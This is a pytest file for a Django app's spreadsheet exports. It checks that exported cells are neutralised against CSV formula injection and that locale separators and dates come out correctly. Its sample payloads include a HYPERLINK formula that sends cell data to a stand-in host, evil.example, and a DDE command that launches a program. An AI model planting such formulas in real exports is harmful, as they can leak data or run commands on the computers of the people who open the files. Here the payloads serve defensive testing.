"""Spreadsheet exports never carry a formula: a cell planted with `=HYPERLINK(…)` by someone
who edits a name or a title is plain text in the ADOC team's spreadsheet (OWASP CSV injection)."""

import csv
import datetime
import decimal
import io

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from infrastructure.exports import XLSX_TYPE, Table, csv_response, neutralised
from meetings.models import Attendance, AttendanceStatus
from privacy.models import AccessLog
from tests.factories import MeetingFactory, ObjectiveFactory

PLANTED = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rRetour",
]


@pytest.mark.parametrize("value", PLANTED)
def test_a_cell_that_would_be_a_formula_is_made_text(value):
    assert neutralised(value) == "'" + value


def test_plain_text_and_numbers_stay_as_they_are():
    assert neutralised("Maison de la famille") == "Maison de la famille"
    assert neutralised(-5) == -5
    assert neutralised("") == ""


def rows_of(response, delimiter=";"):
    """The rows of a CSV export; in French (the tests' language) its separator is `;`."""
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))


def sheet_of(response):
    assert response["Content-Type"] == XLSX_TYPE
    return load_workbook(io.BytesIO(response.content)).active


def test_the_attendance_export_neutralises_a_planted_guest_name(client, adoc, territory):
    meeting = MeetingFactory(
        body=territory["council"],
        starts=timezone.now() - datetime.timedelta(days=3),
        published_at=timezone.now(),
    )
    Attendance.objects.create(
        meeting=meeting, guest_name=PLANTED[0], status=AttendanceStatus.PRESENT
    )
    client.force_login(adoc)

    rows = rows_of(client.get(reverse("meetings:attendance-csv", args=[meeting.pk])))

    assert rows[1][0] == "'" + PLANTED[0]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_objectives_export_neutralises_a_planted_title(client, adoc, territory):
    ObjectiveFactory(chantier=territory["chantier"], title="=1+1", indicator="@cmd")
    client.force_login(adoc)

    rows = rows_of(client.get(reverse("chantiers:progress-export")))

    assert rows[1][4] == "'=1+1"
    assert "'@cmd" in rows[1]


def test_the_objectives_csv_is_for_excel_in_french(client, adoc, territory):
    ObjectiveFactory(
        chantier=territory["chantier"],
        title="Repas servis, chaque semaine",
        target_date=datetime.date(2027, 6, 19),
    )
    client.force_login(adoc)

    response = client.get(reverse("chantiers:progress-export"))

    assert response["Content-Disposition"].endswith('.csv"')
    header, row = rows_of(response)
    assert header[:2] == ["Chantier", "Statut du chantier"]
    assert row[4] == "Repas servis, chaque semaine"
    assert row[8] == "2027-06-19"


def test_the_objectives_csv_in_english_keeps_commas(client, adoc, territory):
    ObjectiveFactory(chantier=territory["chantier"], title="Meals")
    client.force_login(adoc)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"

    header, row = rows_of(client.get(reverse("chantiers:progress-export")), delimiter=",")

    assert header[:2] == ["Chantier", "Chantier status"]
    assert row[4] == "Meals"


@pytest.mark.parametrize(
    ("language", "expected"), [("fr-ca", "40000,5;2027-06-19"), ("en", "40000.5,2027-06-19")]
)
def test_decimals_take_the_separator_excel_reads_in_the_language(language, expected):
    table = Table(
        "Cibles", ["Cible", "Date"], [[decimal.Decimal("40000.5"), datetime.date(2027, 6, 19)]]
    )

    with translation.override(language):
        response = csv_response(table, "cibles")

    assert response.content.decode("utf-8-sig").splitlines()[1] == expected


def test_the_objectives_xlsx_holds_real_dates_and_numbers(client, adoc, territory):
    ObjectiveFactory(
        chantier=territory["chantier"],
        title="=1+1",
        progress=25,
        target_date=datetime.date(2027, 6, 19),
    )
    client.force_login(adoc)

    sheet = sheet_of(client.get(reverse("chantiers:progress-export-xlsx")))

    assert sheet.title == "Objectifs"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].value == "Chantier"
    assert sheet["A1"].font.bold
    assert sheet["E2"].value == "'=1+1"
    assert sheet["E2"].data_type == "s"
    assert sheet["I2"].value == datetime.datetime(2027, 6, 19)
    assert sheet["I2"].is_date
    assert sheet["K2"].value == 25


def test_the_attendance_xlsx_has_the_local_time_and_is_logged(client, adoc, territory):
    meeting = MeetingFactory(
        body=territory["council"],
        starts=timezone.now() - datetime.timedelta(days=3),
        published_at=timezone.now(),
    )
    convened = timezone.make_aware(datetime.datetime(2026, 11, 1, 12, 31))
    Attendance.objects.create(
        meeting=meeting,
        guest_name="@Invitée",
        status=AttendanceStatus.PRESENT,
        convened_at=convened,
    )
    client.force_login(adoc)

    sheet = sheet_of(client.get(reverse("meetings:attendance-xlsx", args=[meeting.pk])))

    assert sheet["A2"].value == "'@Invitée"
    assert sheet["E2"].value == datetime.datetime(2026, 11, 1, 12, 31)
    assert AccessLog.objects.filter(viewer=adoc).exists()
